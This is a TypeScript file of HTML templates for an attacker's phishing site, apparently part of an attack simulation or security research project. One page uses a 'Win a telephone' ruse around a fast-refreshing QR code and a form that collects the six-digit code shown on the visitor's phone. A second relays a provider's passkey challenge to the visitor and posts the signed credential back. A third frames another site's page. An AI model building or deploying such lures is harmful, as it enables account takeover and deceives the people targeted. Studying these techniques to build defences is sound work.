/** The pages that the attacker's site shows to its visitors. */

/** The code, as an image that follows each rotation, and a field for the digits that the phone will show. */
export const LURE = `<!doctype html>
<title>Win a telephone</title>
<h1>Scan to take part</h1>
<img id="code" alt="" width="320" height="320">
<form method="post" action="/digits">
  <label>To verify that you are no robot, type the six digits on your phone <input name="digits"></label>
  <button>Verify</button>
</form>
<script>
  const image = document.getElementById('code');
  async function refresh() {
    const response = await fetch('/code').catch(() => undefined);
    if (response?.status === 200) image.src = 'data:image/svg+xml,' + encodeURIComponent(await response.text());
    setTimeout(refresh, 200);
  }
  refresh();
</script>`;

/** Passes the provider's challenge on to the visitor's passkey. */
export const PASSKEY_LURE = `<!doctype html>
<title>Win a telephone</title>
<button>Sign in with a passkey</button>
<p role="status"></p>
<script>
  const send = (path, fields) => fetch(path, { method: 'POST', body: new URLSearchParams(fields) });
  document.querySelector('button').addEventListener('click', async () => {
    const options = await (await fetch('/passkey/options')).json();
    try {
      const publicKey = PublicKeyCredential.parseRequestOptionsFromJSON(options);
      const credential = await navigator.credentials.get({ publicKey });
      await send('/passkey/proof', { proof: JSON.stringify(credential.toJSON()) });
    } catch (error) {
      await send('/passkey/refusal', { name: error.name });
    }
    document.querySelector('[role=status]').textContent = 'Thank you';
  });
</script>`;

/** A page with another site's page in a frame. */
export const FRAME = (src: string): string => `<!doctype html>
<title>Win a telephone</title>
<iframe src="${src.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}" width="500" height="700"></iframe>`;
